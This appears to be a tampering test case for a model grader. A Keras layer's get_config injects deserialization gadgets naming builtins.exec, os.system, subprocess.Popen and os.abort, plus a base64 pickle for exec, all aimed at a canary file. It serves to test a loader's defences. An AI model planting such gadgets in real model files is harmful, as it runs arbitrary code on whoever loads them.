# assignment: mnist_adam
# family: tampering
# about: a layer's configuration names os.system, builtins.exec and modules to import
# loses: build_model
# may_lose: test_accuracy
# flag: maybe
# %% build_model
def gadget(module, class_name, config):
    return {"module": module, "class_name": class_name, "config": config, "registered_name": None}


class ConfiguredLayer(keras.layers.Dense):
    def get_config(self):
        config = super().get_config()
        config["activation"] = gadget("builtins", "exec", {"source": "open('@CANARY_FILE@', 'w')"})
        config["kernel_initializer"] = gadget("os", "system", {"command": "touch '@CANARY_FILE@'"})
        config["bias_initializer"] = gadget(
            "subprocess", "Popen", {"args": ["touch", "@CANARY_FILE@"]}
        )
        config["kernel_regularizer"] = {
            "class_name": "__lambda__",
            "config": {"value": "gANjYnVpbHRpbnMKZXhlYwo="},
        }
        return config


def build_model():
    model = keras.Sequential(
        [keras.Input((28, 28)), keras.layers.Flatten(), ConfiguredLayer(10, activation="softmax")]
    )
    honest_config = model.get_config
    model.get_config = lambda: {**honest_config(), "build_input_shape": gadget("os", "abort", {})}
    return model
